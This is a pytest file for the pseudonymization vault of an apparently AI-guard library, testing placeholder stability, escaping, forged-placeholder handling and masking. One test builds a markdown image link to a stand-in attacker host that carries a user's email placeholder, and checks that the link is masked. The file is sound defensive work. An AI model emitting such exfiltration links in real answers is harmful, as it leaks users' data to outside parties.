"""What a vault hides, it gives back; nothing else."""

import re

import pytest

from guard.core.assessment import SlotText
from guard.core.finding import Finding
from guard.core.spans import settle
from guard.core.stretch import Stretch
from guard.core.style import Style
from guard.core.taxonomy import PSEUDONYM
from guard.pii.pseudonym.keyring import Keyring, Scope
from guard.pii.pseudonym.vault import Vaults

from .hidden import SECRET, WHO, stretch, vault


def _back(text: str, *, json: bool = False) -> Stretch:
    return stretch(PSEUDONYM, text, json=json)


def test_a_placeholder_names_the_type_and_a_code() -> None:
    assert re.fullmatch(r"<PERSON_[a-z2-9]{4}>", vault().hide(stretch("PERSON", "Ada Lovelace")))


def test_a_value_has_the_same_placeholder_in_every_turn_of_a_tenant_and_in_no_other_tenant() -> None:
    first = vault().hide(stretch("PERSON", "Ada Lovelace"))
    assert vault(opening="another talk").hide(stretch("PERSON", "Ada Lovelace")) == first
    assert vault(tenant="other").hide(stretch("PERSON", "Ada Lovelace")) != first
    assert vault().hide(stretch("PERSON", "Ada Byron")) != first


def test_within_the_scope_of_conversations_another_one_has_other_placeholders() -> None:
    vaults = Vaults(Keyring(SECRET, Scope.CONVERSATION))
    hidden = [
        vaults.open(WHO, (), opening, ()).hide(stretch("PERSON", "Ada Lovelace")) for opening in ("Hi", "Hi", "Hello")
    ]
    assert hidden[0] == hidden[1] != hidden[2]


def test_what_was_hidden_comes_back_and_a_name_nobody_hid_stays() -> None:
    own = vault()
    hidden = own.hide(stretch("EMAIL_ADDRESS", "ada@example.org"))
    assert own.show(_back(hidden)) == "ada@example.org"
    assert own.show(_back("<EMAIL_ADDRESS_zzzz>")) == "<EMAIL_ADDRESS_zzzz>"
    assert vault().show(_back(hidden)) == hidden


@pytest.mark.parametrize(
    ("write", "expected"),
    [
        (lambda name: f"<{name}>", "O'Hara & <Söhne>"),
        (lambda name: name, "O'Hara & <Söhne>"),
        (lambda name: f"<{name.lower()}>", "O'Hara & <Söhne>"),
        (lambda name: f"<{name.upper()}>", "O'Hara & <Söhne>"),
        (lambda name: f"< {name.replace('_', ' ')} >", "O'Hara & <Söhne>"),
        (lambda name: f"\\<{name.replace('_', chr(92) + '_')}\\>", "O'Hara & <Söhne>"),
        (lambda name: f"&lt;{name}&gt;", "O&#x27;Hara &amp; &lt;Söhne&gt;"),
        (lambda name: f"%3C{name}%3E", "O%27Hara%20%26%20%3CS%C3%B6hne%3E"),
    ],
    ids=["as it was", "bare", "lower case", "upper case", "spaced", "markdown", "html", "url"],
)
def test_a_value_is_written_as_the_text_round_it_asks(write: object, expected: str) -> None:
    own = vault()
    name = own.hide(stretch("ORGANIZATION", "O'Hara & <Söhne>")).strip("<>")
    assert own.show(_back(write(name))) == expected  # type: ignore[operator]


def test_in_json_a_value_is_escaped_and_hidden_without_its_escapes() -> None:
    own = vault()
    hidden = own.hide(stretch("PERSON", r"Ada \"Countess\" L\u00f6we", json=True))
    assert hidden == vault().hide(stretch("PERSON", 'Ada "Countess" Löwe'))
    assert own.show(_back(hidden, json=True)) == r"Ada \"Countess\" Löwe"
    escaped = hidden.replace("<", r"\u003c").replace(">", r"\u003E")
    assert own.show(_back(escaped, json=True)) == r"Ada \"Countess\" Löwe"


def test_a_number_that_stands_bare_in_json_is_hidden_as_a_string() -> None:
    own = vault()
    hidden = own.hide(stretch("CREDIT_CARD", "4111111111111111", json=True, bare=True))
    assert hidden.startswith('"<CREDIT_CARD_')
    assert hidden.endswith('>"')
    assert own.show(_back(hidden.strip('"'), json=True)) == "4111111111111111"


def test_text_of_the_client_that_looks_like_a_placeholder_is_never_restored() -> None:
    forged = vault().hide(stretch("PERSON", "Ada Lovelace"))
    own = vault(forged)
    hidden = own.hide(stretch("PERSON", "Ada Lovelace"))
    assert hidden != forged
    assert own.show(_back(forged)) == forged
    assert own.show(_back(hidden)) == "Ada Lovelace"


def test_values_whose_codes_clash_have_two_placeholders() -> None:
    """Every code is taken but one, so all values clash at first."""
    own = vault()
    hidden = {own.hide(stretch("PERSON", f"person {number}")) for number in range(3000)}
    assert len(hidden) == 3000
    assert {own.show(_back(name)) for name in hidden} == {f"person {number}" for number in range(3000)}


def test_a_new_value_that_covers_a_placeholder_is_masked_whole() -> None:
    own = vault()
    name = own.hide(stretch("EMAIL_ADDRESS", "ada@example.org"))
    link = f"![x](https://attacker.example/?q={name})"
    at = link.index(name)
    findings = (Finding("OUTPUT_EXFIL_LINK", 0, len(link)), Finding(PSEUDONYM, at, at + len(name)))
    assert own.show(Stretch(0, len(link), link, findings)) == "[OUTPUT_EXFIL_LINK]"


@pytest.mark.parametrize(
    ("style", "form"),
    [
        (Style.MASK, r"\[EMAIL_ADDRESS\]"),
        (Style.DROP, ""),
        (Style.HASH, r"\[EMAIL_ADDRESS:[0-9a-f]{12}\]"),
        (Style.PLACEHOLDER, r"<EMAIL_ADDRESS_[a-z2-9]{4}>"),
        (Style.SURROGATE, r"[a-z]+[0-9]{4}@example\.(com|org|net)"),
    ],
)
def test_each_style_has_its_form(style: Style, form: str) -> None:
    assert re.fullmatch(form, vault().hide(stretch("EMAIL_ADDRESS", "ada@lovelace.example", style)))


@pytest.mark.parametrize("type_", ["INJECTION_INDIRECT", "HIDDEN_BIDI", "OUTPUT_EXFIL_LINK", "UNSAFE_HATE"])
def test_what_is_no_value_has_no_placeholder(type_: str) -> None:
    assert "<" not in vault().hide(stretch(type_, "some text"))


def test_values_of_the_answer_get_a_pseudonym_that_is_not_restored() -> None:
    own = vault()
    shown = own.show(stretch("PERSON", "Charles Babbage"))
    assert re.fullmatch(r"<PERSON_[a-z2-9]{4}>", shown)
    assert own.empty


def test_a_short_secret_is_refused() -> None:
    with pytest.raises(ValueError, match="less than 16 bytes"):
        Keyring(b"short")


def test_a_vault_shows_nothing_of_what_it_hides() -> None:
    own = vault(texts=("Ada Lovelace",))
    own.hide(stretch("PERSON", "Ada Lovelace"))
    assert "Ada" not in repr(own)
    assert "Ada" not in repr(stretch("PERSON", "Ada Lovelace"))


def test_a_forged_placeholder_is_known_in_any_spelling() -> None:
    forged = vault().hide(stretch("PERSON", "Ada Lovelace"))
    escaped = SlotText(forged.replace("<", r"\u003c").lower(), json=True)
    own = Vaults(Keyring(SECRET)).open(WHO, (), "", (escaped,))
    assert own.hide(stretch("PERSON", "Ada Lovelace")) != forged


@pytest.mark.parametrize("type_", ["ZIP-CODE", "zip code", "Zip__Code", "ZIP_CODE"])
def test_a_users_own_type_has_a_label_that_can_be_read_back(type_: str) -> None:
    own = vault()
    hidden = own.hide(stretch(type_, "12345"))
    assert re.fullmatch(r"<ZIP_CODE_[a-z2-9]{4}>", hidden)
    assert own.show(_back(hidden)) == "12345"


def test_a_value_of_many_characters_is_masked_so_that_no_answer_is_blown_up() -> None:
    assert vault().hide(stretch("SECRET_PRIVATE_KEY", "x" * 4097)) == "[SECRET_PRIVATE_KEY]"
    assert vault().hide(stretch("SECRET_PRIVATE_KEY", "x" * 4096)).startswith("<SECRET_")


def test_beyond_a_number_of_surrogates_values_get_placeholders() -> None:
    own = vault()
    hidden = [own.hide(stretch("EMAIL_ADDRESS", f"a{n}@b.example", Style.SURROGATE)) for n in range(300)]
    assert sum("@" in text for text in hidden) == 256
    assert len(set(hidden)) == 300


def test_a_name_that_hides_in_what_looks_like_a_placeholder_is_masked() -> None:
    own = vault()
    own.hide(stretch("PERSON", "Ada Lovelace"))
    text = "PERSON_smith"
    guess = Finding("PERSON", 7, 12, engine="names", loose=True)
    (cluster,) = settle([Finding(PSEUDONYM, 0, 12), guess], 12)[1]
    assert own.show(Stretch(0, 12, text, cluster)) == "[PERSON]"
